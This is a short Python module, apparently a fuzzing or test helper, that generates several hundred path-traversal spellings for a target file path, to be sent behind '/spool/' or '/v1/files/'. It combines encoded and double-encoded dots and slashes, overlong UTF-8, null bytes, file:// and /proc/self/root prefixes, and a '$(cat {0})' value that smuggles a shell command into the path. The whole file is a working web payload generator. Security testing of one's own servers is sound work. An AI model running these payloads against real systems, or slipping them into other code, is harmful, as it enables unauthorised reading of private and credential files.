"""Several hundred spellings of one wish: a file outside of the directory that is served.

Each is the tail of a request's path, to be sent byte by byte behind `/spool/` or `/v1/files/`.
"""

from collections.abc import Iterator

_DOTS = (
    "..", "%2e%2e", "%2E%2e", ".%2e", "%2e.", "%252e%252e", "%25252e%25252e", "%c0%ae%c0%ae",
    "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae", "%uff0e%uff0e", "%u002e%u002e",
    "%ef%bc%8e%ef%bc%8e", "..;", "..;a=b", "..%00", "..%20", "..%09", "..%0a", "..%0d", "....",
    "...", "..%3b", ".%00.", "%00..", "x/../..", ".//..", "%2e%2e%2f..",
)  # fmt: skip
_SLASHES = (
    "/", "//", "%2f", "%2F", "%252f", "%25252f", "\\", "%5c", "%255c", "%c0%af", "%c1%9c",
    "%e0%80%af", "%ef%bc%8f", "%u2215", "/./", "/%2e/", "/.;/", "%00/", ";/",
)  # fmt: skip
_ENDS = (
    "",
    "%00",
    "%00.json",
    "?.json",
    "#.json",
    "%20",
    "%0a",
    "/",
    "/.",
    ".",
    "::$DATA",
    ";.json",
)
_ABSOLUTE = (
    "/{0}", "//{0}", "%2f{0}", "%2F{0}", "%252f{0}", "\\{0}", "%5c{0}", "%00/{0}", "file:///{0}",
    "file:%2f%2f%2f{0}", "http://localhost/{0}", "//localhost/{0}", "C:/{0}", "C:%5c{0}", "~/{0}",
    "~root/{0}", "./{0}", "%2e/{0}", "proc/self/root/{0}", "/proc/self/root/{0}",
    "%2fproc%2fself%2froot%2f{0}", "/dev/fd/../../{0}", ".%2f{0}", "@/{0}", "|{0}", "$(cat {0})",
    "%7e/{0}", "%25%32%66{0}", "%%32%66{0}", "%2{0}", "%{0}", "%zz{0}", "%u{0}",
)  # fmt: skip


def spellings(path: str) -> list[str]:
    """Return the spellings for a file at `path`, given from the root without its first slash."""
    return sorted(set(_spellings(path)))


def _spellings(path: str) -> Iterator[str]:
    depth = path.count("/")
    for dots in _DOTS:
        for slash in _SLASHES:
            yield dots + slash + path.rpartition("/")[2]  # beside the directory
            yield (dots + slash) * 8 + path
    for dots in ("..", "%2e%2e", "%252e%252e"):
        for levels in range(1, depth + 4):
            yield f"{dots}/" * levels + path
            yield f"{dots}%2f" * levels + path.replace("/", "%2f")
    for end in _ENDS:
        yield "../" * 8 + path + end
        yield "a.json/" + "../" * 9 + path + end
        yield "%2e%2e%2f" * 8 + path.replace("/", "%2f") + end
    for form in _ABSOLUTE:
        yield form.format(path)
